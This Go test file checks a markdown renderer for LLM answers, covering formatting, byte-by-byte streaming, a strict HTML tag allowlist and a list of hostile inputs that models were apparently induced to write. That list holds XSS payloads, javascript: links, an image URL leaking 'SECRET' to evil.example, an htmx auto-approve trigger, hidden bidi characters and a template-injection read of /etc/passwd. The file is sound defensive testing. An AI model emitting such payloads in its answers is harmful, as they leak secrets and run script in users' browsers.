package llm_test

import (
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"aimyorg/llm"
)

var links = llm.Links{
	Cite: func(n int) (string, bool) { return fmt.Sprintf("/documents/d%d?at=1&x=2", n), n <= 8 },
	Out: func(u string) (string, bool) {
		if !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
			return "/wrong", true
		}
		return "/out?to=signed", true
	},
}

const document = `# Leave

You have **30 days** of *annual* leave [1]. See [the rule](https://example.com/a?b=c) and [2, 3].

- one
- two with ` + "`code [1]`" + `

  inside two
- [x] three
-
1. first
2. second

> quoted
> - in quote

` + "```go\nfunc main() {\n\n\t// [1] *not*\n}\n```" + `

| a | b |
|:--|--:|
| 1 | **2** [4] |
| ~~x~~ | y |

* * *
    indented code

Para one
===
para two
---
last line with 😀 and ümlaut [99]`

// TestRenderDocument looks at one of each.
func TestRenderDocument(t *testing.T) {
	html := string(llm.Render(document, links))
	for _, want := range []string{
		"<h2>Leave</h2>", "<strong>30 days</strong>", "<em>annual</em>", `<a class="cite" href="/documents/d1?at=1&amp;x=2" aria-label="Source 1">1</a>`,
		`<a class="md-out" href="/out?to=signed" rel="noopener noreferrer nofollow" target="_blank">the rule</a>`,
		`aria-label="Source 2">2</a><a class="cite"`, "<code>code [1]</code>", "☑ three", "<blockquote>", "// [1] *not*",
		`<th class="md-right">b</th>`, `<del>x</del>`, "<hr>", "indented code", "[99]", "ümlaut", "===",
	} {
		if !strings.Contains(html, want) {
			t.Errorf("no %q in\n%s", want, html)
		}
	}
	wellFormed(t, document, html)
}

// growing are texts whose blocks are easily cut at the wrong line.
func growing() []string {
	return []string{document, strings.ReplaceAll(document, "\n", "\n\n"), "- a\n\n-\n\n- b\n\ntext\n- c\n", "- a\n  ```\nfoo\n\n```\nbar\n\nbaz",
		"1. a\n\n   b\n\n2. c\n\n\n3. d\n> q\nlazy\n\n- x\n\n* y\n", "a\n| b |\n|---|\n| c |\n\nd", "```\na\n\nb\n", "    code\n\n    more\nx\n", "\n\n\n# h\n\n## \n\ntext\n***\n---\n- \n"}
}

// TestStreamEqualsWhole feeds the document byte by byte: the closed parts and the last open one are the whole, every
// partial render is well formed, and resuming at any frame's offset gives the rest.
func TestStreamEqualsWhole(t *testing.T) {
	for _, doc := range growing() {
		whole := string(llm.Render(doc, links))
		s := llm.NewStream(0, links)
		closed := ""
		for i := range len(doc) {
			s.Write(doc[i : i+1])
			f, ok := s.Frame()
			if !ok {
				t.Fatal("a byte changed nothing")
			}
			closed += string(f.Closed)
			wellFormed(t, doc[:i+1], closed+string(f.Open))
			if utf8.ValidString(doc[:i+1]) {
				same(t, doc[:i+1], closed+string(f.Open), string(llm.Render(doc[:i+1], links)))
			}
			rest := llm.NewStream(f.Offset, links)
			rest.Write(doc[f.Offset:])
			same(t, doc, closed+string(rest.End().Closed), whole)
		}
		same(t, doc, closed+string(s.End().Closed), whole)
	}
}

func same(t *testing.T, doc, got, want string) {
	t.Helper()
	if got != want {
		t.Fatalf("of %q\n got %q\nwant %q", doc, got, want)
	}
}

var tag = regexp.MustCompile(`<[^>]*>?`)

// allowed is every tag that may be in a rendered answer, attributes included: the only quotes are ours.
var allowed = regexp.MustCompile(`^<(/?(p|h2|blockquote|ul|ol|li|code|pre|em|strong|del|table|thead|tbody|tr|th|td|a|div)|hr|br|` +
	`ol start="\d+"|pre tabindex="0"|div class="md-table" tabindex="0"|t[hd] class="md-(right|center)"|` +
	`a class="cite" href="/documents/[^"<>]*" aria-label="Source \d+"|` +
	`a class="md-out" href="/out\?to=signed" rel="noopener noreferrer nofollow" target="_blank"|` +
	`a href="(/([^/"<>\\][^"<>]*)?|mailto:[^"<>]*)")>$`)

// wellFormed holds rendered text against the allowlist, and every tag against its end.
func wellFormed(t *testing.T, doc, html string) {
	t.Helper()
	var open []string
	for _, m := range tag.FindAllString(html, -1) {
		if !allowed.MatchString(m) {
			t.Fatalf("tag %q of %q", m, doc)
		}
		name := strings.Trim(strings.Fields(m)[0], "</>")
		switch {
		case name == "hr" || name == "br":
		case m[1] != '/':
			if name == "a" && slices.Contains(open, "a") {
				t.Fatalf("link in a link in %q of %q", html, doc)
			}
			open = append(open, name)
		case len(open) == 0 || open[len(open)-1] != name:
			t.Fatalf("%q closes %v in %q of %q", m, open, html, doc)
		default:
			open = open[:len(open)-1]
		}
	}
	if len(open) > 0 {
		t.Fatalf("%v stay open in %q of %q", open, html, doc)
	}
	if strings.ContainsFunc(html, func(r rune) bool {
		return r >= 0x202A && r <= 0x202E || r == 0 || r == 0x1B || r >= 0xE0000 && r < 0xE0080
	}) {
		t.Fatalf("hidden characters in %q", html)
	}
}

// hostile is what models were made to write.
func hostile() []string {
	return []string{
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "<iframe srcdoc='<p>'>", "<math><mi>",
		"[x](javascript:alert(1))", "[x](java\tscript:x)", "[x](java&Tab;script:x)", "[x](&#106;avascript:x)", "[x](data:text/html,x)",
		"[x](vbscript:x)", "[x](ftp://evil.example/x)", "[x](///evil.example/)", "<javascript:x>", "[x](//evil.example/)", `[x](/\evil.example)`, "[x](\\\\evil)", "[x](/%5cevil)",
		`<div hx-get="/approvals/1/approve" hx-trigger="load">`, `<a id=htmx>`, "<form name=x>", `[x](/a "onclick=x")`,
		"![secret](https://evil.example/?q=SECRET)", "![a][r]\n\n[r]: https://evil.example/?q=SECRET", "[1]: https://evil.example\n\n[1]",
		"[r][r]\n\n[r]: javascript:x", "\x1b[31mred\u202etxt.exe\U000E0041", "&#8238;abc&#0;&#x1b;&#xE0041;", "{{.Env}} {% include '/etc/passwd' %}",
		"[a [1] b](https://x.example) [![i](https://e.example)](https://f.example)", "<!-- x --> <?x?> <![CDATA[x]]>",
		"```\"><script>\nx\n```", "# x {#htmx onclick=x}", "|a|\n|-|\n|<script>|", "**<b onclick=x>**", "`<script>`",
	}
}

// TestHostileMarkdown: rows A73-A79, A82-A84, A92.
func TestA73_A74_A75_A78_A79_A82_HostileMarkdown(t *testing.T) {
	for _, text := range hostile() {
		html := string(llm.Render(text, links))
		wellFormed(t, text, html)
		if strings.Contains(html, "SECRET") && !strings.Contains(text, "][") || strings.Contains(html, `href="java`) {
			t.Errorf("%q gave %q", text, html)
		}
	}
	got := string(llm.Render("![alt text](https://evil.example/?q=SECRET) {{.Env}}", links))
	if got != "<p>alt text {{.Env}}</p>\n" {
		t.Errorf("image: %q", got)
	}
	if got := string(llm.Render("[1]: https://evil.example\n\n[1]", llm.Links{})); strings.Contains(got, "<a") {
		t.Errorf("definition: %q", got)
	}
}

func BenchmarkStream(b *testing.B) {
	text := strings.Repeat(document+"\n\n", 20000/len(document))
	for b.Loop() {
		s := llm.NewStream(0, links)
		for i := 0; i < len(text); i += 20 {
			s.Write(text[i:min(i+20, len(text))])
			s.Frame()
		}
	}
	fmt.Fprintln(os.Stderr, len(text))
}

// TestTame: a paragraph that could cost too much is plain text; its neighbours are not.
func TestA77_TooManyMarksArePlain(t *testing.T) {
	html := string(llm.Render("*a*\n\n"+strings.Repeat("*b* ", 1500)+"\n\n*c*\n\n# "+strings.Repeat("*d* ", 1500), links))
	if strings.Count(html, "<em>") != 2 || strings.Contains(html, "<h2>") || !strings.Contains(html, "*b* *b*") {
		t.Error(html[:200])
	}
}
